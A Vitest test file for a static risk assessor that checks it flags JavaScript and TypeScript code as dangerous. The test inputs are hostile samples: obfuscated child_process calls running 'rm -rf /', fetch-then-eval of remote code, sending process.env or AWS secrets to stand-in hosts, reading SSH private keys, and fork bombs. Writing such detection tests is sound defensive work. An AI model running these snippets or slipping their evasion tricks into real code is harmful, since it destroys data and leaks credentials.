import { describe, expect, it } from "vitest";
import { assess } from "../../risk/assess.js";
import { rankOf } from "../../rules/levels.js";

const DESTROY = "rm -rf /";

describe("JavaScript is read", () => {
  it.each([
    ["a destructured require", `const { exec: e } = require("child_process"); e("${DESTROY}");`],
    ["a require by another name", `const r = require; r("child_process").exec("${DESTROY}");`],
    ["a namespace import", `import * as cp from "node:child_process"; cp.exec("${DESTROY}");`],
    ["a renamed import", `import { exec as e } from "child_process"; e("${DESTROY}");`],
    ["an awaited import", `const cp = await import("child_process"); cp.exec("${DESTROY}");`],
    ["an import with a callback", `import("child_process").then(({ exec }) => exec("${DESTROY}"));`],
    [
      "a loader that is made",
      `import { createRequire } from "module"; createRequire(import.meta.url)("child_process").exec("${DESTROY}");`,
    ],
    ["a computed member", `require("child_process")["ex" + "ec"]("${DESTROY}");`],
    [
      "a promise of a function",
      `const run = require("util").promisify(require("child_process").exec); run("${DESTROY}");`,
    ],
    ["bind", `const f = require("child_process").exec.bind(null); f("${DESTROY}");`],
    ["call", `require("child_process").execFile.call(null, "rm", ["-rf", "/"]);`],
    ["Reflect", `Reflect.apply(require("child_process").exec, null, ["${DESTROY}"]);`],
    ["a callback", `["${DESTROY}"].forEach((c) => require("child_process").execSync(c));`],
    ["a function handed over", `["${DESTROY}"].forEach(require("child_process").execSync);`],
    [
      "a field of an object",
      `class A { constructor() { this.cp = require("child_process"); } go(c) { this.cp.execSync(c); } } new A().go("${DESTROY}");`,
    ],
    [
      "an array of pieces behind a function",
      `const a = ["x", "child_process", "exec", "${DESTROY}"]; const f = (i) => a[i - 1]; require(f(2))[f(3)](f(4));`,
    ],
    ["a tagged template", `import { $ } from "zx"; await $\`${DESTROY}\`;`],
    ["indirect evaluation", `(0, eval)("require('fs').rmSync('/', { recursive: true })");`],
    ["a timer that takes text", `setTimeout("require('child_process').exec('${DESTROY}')", 0);`],
    [
      "a worker that takes text",
      `new Worker("require('child_process').exec('${DESTROY}')", { eval: true });`,
    ],
    ["a builtin that is declared again", `var require; require("child_process").exec("${DESTROY}");`],
    [
      "a builtin that a dead branch replaces",
      `if (0) require = 1; require("child_process").exec("${DESTROY}");`,
    ],
    ["a line that only JavaScript ends", `// harmless\u2028require("child_process").exec("${DESTROY}");`],
  ])("through %s", async (_, code) => {
    const { level, parsed } = await assess(code, "javascript");
    expect({ level, parsed }).toEqual({ level: "critical", parsed: true });
  });

  it.each([
    [
      "a cast",
      `const run = eval as any as (s: string) => void; run("require('child_process').exec('${DESTROY}')");`,
    ],
    ["import equals", `import cp = require("child_process"); cp.exec("${DESTROY}");`],
    [
      "an ambient declaration",
      `declare const process: any; process.mainModule.require("child_process").exec("${DESTROY}");`,
    ],
    ["an enum", `enum A { x = require("child_process").execSync("${DESTROY}") as any }`],
  ])("and TypeScript through %s", async (_, code) => {
    expect((await assess(code, "typescript")).level).toBe("critical");
  });

  it.each([
    ["hidden-code", `eval(atob("MQ=="));`],
    ["hidden-code", `new Function(Buffer.from("31", "hex").toString())();`],
    ["hidden-name", `globalThis["ev" + "al"]("1");`],
    ["hidden-name", `require([99, 112].map((c) => String.fromCharCode(c)).join(""));`],
    ["hidden-name", String.raw`global["\x65\x76\x61\x6c"]("1");`],
    ["disguised-name", String.raw`\u0065val("1");`],
    ["hidden-constructor", `[]["filter"]["constructor"]("return 1")();`],
    ["native-code", `process["bind" + "ing"]("fs");`],
    ["remote-code", `fetch("http://x").then((r) => r.text()).then(eval);`],
    [
      "remote-code",
      `https = require("https"); https.get("https://x", (res) => { let b = ""; res.on("data", (d) => (b += d)); res.on("end", () => eval(b)); });`,
    ],
    ["remote-code", `import x from "https://evil.example/x.js";`],
    [
      "remote-command",
      `const ws = new WebSocket("wss://x"); ws.onmessage = (e) => require("child_process").exec(e.data);`,
    ],
    ["exfiltration", `fetch("http://x", { method: "POST", body: JSON.stringify(process.env) });`],
    ["exfiltration", `const { AWS_SECRET_ACCESS_KEY: k } = process.env; fetch("http://x?" + k);`],
    [
      "secret-file",
      `require("fs").readFileSync(require("path").join(require("os").homedir(), ".ssh", "id_rsa"));`,
    ],
    ["endless-spawning", `const { fork } = require("child_process"); for (;;) fork("x");`],
    ["endless-growth", `const a = []; while (true) a.push(1);`],
    ["prototype", `Object.prototype.shell = "x";`],
  ])("and %s is found", async (rule, code) => {
    const { findings } = await assess(code, "javascript");
    const severe = findings.filter(({ level }) => rankOf(level) >= rankOf("high"));
    expect(severe.map((finding) => finding.rule)).toContain(rule);
  });

  it.each([
    ["safe", `console.log([1, 2].map((n) => n * 2), "${DESTROY}");`],
    ["safe", `/x/.exec("x"); db.exec("select 1"); model.eval();`],
    ["safe", `const o = {}; const k = "a" + "b"; o[k] = 1;`],
    ["safe", `class A { copy() { return new this.constructor(this.name); } }`],
    ["safe", `setTimeout(tick, 10); setInterval(() => poll(), 10);`],
    ["low", `import { writeFileSync } from "node:fs"; writeFileSync("out.txt", "${DESTROY}");`],
    ["low", `import x from "not-known-here";`],
    [
      "medium",
      `const r = await fetch("https://x", { headers: { authorization: process.env.GITHUB_TOKEN } });`,
    ],
    ["medium", `require("child_process").spawn("npm", ["test"], { env: { ...process.env } });`],
    ["medium", `require("http").createServer((q, r) => r.end()).listen(80);`],
  ])("and what is %s stays so", async (level, code) => {
    expect((await assess(code, "javascript")).level).toBe(level);
  });
});
